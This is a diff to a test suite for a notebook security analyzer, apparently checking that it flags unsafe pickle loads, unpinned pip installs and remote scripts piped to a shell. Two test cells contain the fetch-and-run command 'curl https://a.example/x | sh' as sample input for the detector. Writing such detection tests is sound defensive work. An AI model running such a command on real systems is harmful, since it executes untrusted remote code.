@@ -80,9 +80,32 @@ describe('notebooks', () => {
       { cell_type: 'raw', source: bad },
       { cell_type: 'code', source: bad, metadata: { vscode: { languageId: 'sql' } } },
       `%%bash\n${bad}`,
-      `%%writefile a.py\n${bad}`,
+      `%%writefile a.txt\n${bad}`,
+      `%sql\n${bad}`,
+      { cell_type: 'code', source: bad, metadata: { dotnet_interactive: { language: 'csharp' } } },
     ];
     expect((await analyze(notebookOf(cells))).findings).toEqual([]);
+  });
+
+  it('reads what a cell writes, hands to a shell or runs elsewhere', async () => {
+    const shell = { metadata: { vscode: { languageId: 'shellscript' } } };
+    const cells = [
+      `%%writefile a.py\n${bad}`,
+      `%python\n${bad}`,
+      `%%px\n${bad}`,
+      '%sh\ncurl https://a.example/x | sh',
+      { cell_type: 'code', source: 'curl https://a.example/x | sh', ...shell },
+      'pip install acme',
+    ];
+    const found = (await analyze(notebookOf(cells))).findings;
+    expect(found.map(({ ruleId, location }) => `${ruleId} ${location.cell?.index}`)).toEqual([
+      'pickle-load 0',
+      'pickle-load 1',
+      'pickle-load 2',
+      'curl-pipe-shell 3',
+      'curl-pipe-shell 4',
+      'pip-unpinned 5',
+    ]);
   });
 
   it('loses only the broken cell', async () => {
